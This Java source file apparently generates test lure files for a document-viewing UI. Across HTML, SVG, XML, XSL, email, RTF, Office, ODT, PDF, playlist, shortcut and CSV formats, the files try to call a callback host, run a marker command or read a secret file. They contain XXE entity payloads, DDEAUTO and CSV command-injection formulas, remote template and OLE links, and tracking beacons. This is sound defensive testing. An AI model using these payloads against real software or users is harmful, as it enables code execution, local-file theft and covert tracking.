package org.cairn.ui.evidence;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/// Files that call home, run something or read a file beside them, in each of the ways their format knows.
///
/// @param home an address that tells who called, with a slash at its end
/// @param marker a file that is only there once something of them ran
/// @param secret a file whose words must come into none of them
record Lures(String home, Path marker, Path secret) {

    /// All of them, each under its name. In each stands the word `lure` and its number, to be found in its text.
    Map<String, byte[]> all() throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("page.html", text(page()));
        files.put("page.xhtml", text("<?xml version=\"1.0\"?>" + doctype("html") + page()));
        files.put("drawing.svg", text(drawing()));
        files.put("notes.xml", text(notes()));
        files.put("style.xsl", text(style()));
        files.put("letter.eml", text(letter()));
        files.put("archive.mht", text(letter().replace("message/external-body", "text/html")));
        files.put("old.rtf", text(rtf()));
        files.put("letter.docx", docx());
        files.put("table.xlsx", xlsx());
        files.put("letter.odt", odt());
        files.put("paper.pdf", LuringPdf.of(home, marker));
        files.put("forms.xdp", text("<?xml version=\"1.0\"?>" + doctype("xdp") + "<xdp><a>lure</a></xdp>"));
        files.put("film.mp4", text(list()));
        files.put("film.m3u8", text(list() + "#\n"));
        files.put("sound.mp3", text("ffconcat version 1.0\nfile '" + home + "concat.mp3'\n"));
        files.put("film.sdp", text("v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n"));
        files.put("link.url", text("[InternetShortcut]\r\nURL=" + home + "shortcut\r\nIconFile=" + home + "icon\r\n"));
        files.put("values.csv", text("lure;=WEBSERVICE(\"" + home + "csv\")\n=cmd|'/C touch " + marker + "'!A1;2\n"));
        files.put("run.sh", text("#!/bin/sh\ntouch " + marker + "\n"));
        return files;
    }

    private static byte[] text(String words) {
        return words.getBytes(StandardCharsets.UTF_8);
    }

    private String doctype(String root) {
        return "<!DOCTYPE " + root + " SYSTEM \"" + home + "dtd\" [<!ENTITY secret SYSTEM \"" + secret.toUri()
                + "\"><!ENTITY far SYSTEM \"" + home + "entity\"><!ENTITY % more SYSTEM \"" + home
                + "parameter\">%more;]>";
    }

    private String page() {
        return """
                <html><head><base href="HOME"><link rel="stylesheet" href="HOMEstyle.css">
                <link rel="prefetch" href="HOMEnext"><meta http-equiv="refresh" content="0;url=HOMErefresh">
                <style>@import url(HOMEimport.css); body { background: url(HOMEback.png) }</style>
                <script src="HOMEscript.js"></script>
                <script>fetch("HOMEfetch"); new Image().src = "HOMEbeacon"; location = "HOMElocation"</script></head>
                <body onload="fetch('HOMEload')"><p>lure of a page</p><img src="HOMEpicture.png" srcset="HOMElarge.png 2x">
                <iframe src="HOMEframe"></iframe><object data="HOMEobject"></object><embed src="HOMEembed">
                <video src="HOMEvideo" poster="HOMEposter" autoplay></video><audio src="HOMEaudio" autoplay></audio>
                <svg><image href="HOMEsvg"/></svg><a href="HOMElink" ping="HOMEping">lure of a link</a>
                <img src="FILE"></body></html>
                """.replace("HOME", home).replace("FILE", secret.toUri().toString());
    }

    private String drawing() {
        return "<?xml version=\"1.0\"?><?xml-stylesheet href=\"" + home + "svg.css\"?>" + doctype("svg")
                + """
                <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('HOMEonload')">
                <script xlink:href="HOMEscript"/><script>fetch("HOMEinline")</script>
                <style>@font-face { font-family: a; src: url(HOMEfont) } rect { fill: url(HOMEfill#a) }</style>
                <image xlink:href="HOMEimage" width="9" height="9"/><use href="HOMEuse#a"/>
                <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="HOMEforeign"/></foreignObject>
                <text>lure of a drawing &secret; &far;</text></svg>
                """.replace("HOME", home);
    }

    private String notes() {
        return "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"" + home + "notes.xsl\"?>"
                + doctype("notes")
                + """
                <notes xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
                xsi:noNamespaceSchemaLocation="HOMEschema"><xi:include href="HOMEinclude" parse="text"/>
                <note>lure of notes &secret; &far;</note></notes>
                """.replace("HOME", home);
    }

    private String style() {
        return """
                <?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
                <xsl:import href="HOMEimport"/><xsl:template match="/">lure of a style
                <xsl:value-of select="document('HOMEdocument')"/></xsl:template></xsl:stylesheet>
                """.strip().replace("HOME", home);
    }

    private String letter() {
        return """
                From: A <a@example.org>\r
                To: B <b@example.org>\r
                Subject: lure of a letter\r
                Disposition-Notification-To: <HOMEreceipt>\r
                List-Unsubscribe: <HOMEunsubscribe>\r
                MIME-Version: 1.0\r
                Content-Type: multipart/mixed; boundary=b\r
                \r
                --b\r
                Content-Type: text/html; charset=utf-8\r
                Content-Location: HOMElocation\r
                \r
                PAGE\r
                --b\r
                Content-Type: message/external-body; access-type=URL; URL="HOMEexternal"\r
                \r
                Content-Type: text/plain\r
                \r
                --b--\r
                """.replace("PAGE", page().replace("\n", "\r\n")).replace("HOME", home);
    }

    private String rtf() {
        return """
                {\\rtf1\\ansi{\\*\\template HOMEtemplate.dotm}\\pard lure of an old letter\\par
                {\\field{\\*\\fldinst INCLUDEPICTURE "HOMEpicture.png" \\\\d}{\\fldrslt x}}
                {\\field{\\*\\fldinst DDEAUTO sh "-c touch MARKER"}{\\fldrslt y}}
                {\\object\\objautlink{\\*\\objclass Word.Document}{\\*\\objdata HOMEobject}}}
                """.replace("HOME", home).replace("MARKER", marker.toString());
    }

    private String list() {
        return "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n" + home + "part.ts\n#EXTINF:9,\nfile://" + secret
                + "\n#EXT-X-ENDLIST\n";
    }

    private byte[] docx() throws IOException {
        try (XWPFDocument document = new XWPFDocument();
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            var paragraph = document.createParagraph();
            paragraph.createRun().setText("lure of a letter");
            paragraph.getCTP().addNewFldSimple().setInstr("INCLUDEPICTURE \"" + home + "field.png\" \\d");
            paragraph.getCTP().addNewFldSimple().setInstr("DDEAUTO sh \"-c touch " + marker + "\"");
            String office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
            var part = document.getPackagePart();
            part.addExternalRelationship(home + "template.dotm", office + "attachedTemplate");
            part.addExternalRelationship(home + "picture.png", office + "image");
            part.addExternalRelationship(home + "object.bin", office + "oleObject");
            part.addExternalRelationship(home + "frame", office + "frame");
            document.write(bytes);
            return bytes.toByteArray();
        }
    }

    private byte[] xlsx() throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook();
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            var sheet = book.createSheet("lure");
            sheet.createRow(0).createCell(0).setCellValue("lure of a table");
            sheet.createRow(1).createCell(0).setCellFormula("WEBSERVICE(\"" + home + "service\")");
            sheet.createRow(2).createCell(0).setCellFormula("HYPERLINK(\"" + home + "link\",\"lure\")");
            String office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
            book.getPackagePart().addExternalRelationship(home + "other.xlsx", office + "externalLinkPath");
            book.getPackagePart().addExternalRelationship(home + "query.iqy", office + "connections");
            sheet.getPackagePart().addExternalRelationship(home + "picture.png", office + "image");
            book.write(bytes);
            return bytes.toByteArray();
        }
    }

    private byte[] odt() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            put(zip, "mimetype", "application/vnd.oasis.opendocument.text");
            put(
                    zip,
                    "content.xml",
                    "<?xml version=\"1.0\"?>" + doctype("office:document-content") + """
                    <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
                    xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
                    xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
                    xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"
                    xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:event-listeners>
                    <script:event-listener script:event-name="dom:load" xlink:href="HOMEmacro"/>
                    </office:event-listeners></office:scripts><office:body><office:text>
                    <text:p>lure of an open letter &secret; &far;</text:p>
                    <text:section><text:section-source xlink:href="HOMEsection.odt"/></text:section>
                    <draw:frame><draw:image xlink:href="HOMEpicture.png"/></draw:frame>
                    </office:text></office:body></office:document-content>
                    """.replace("HOME", home));
            put(zip, "META-INF/manifest.xml", "<?xml version=\"1.0\"?><manifest/>");
        }
        return bytes.toByteArray();
    }

    private static void put(ZipOutputStream zip, String name, String words) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(text(words));
        zip.closeEntry();
    }
}
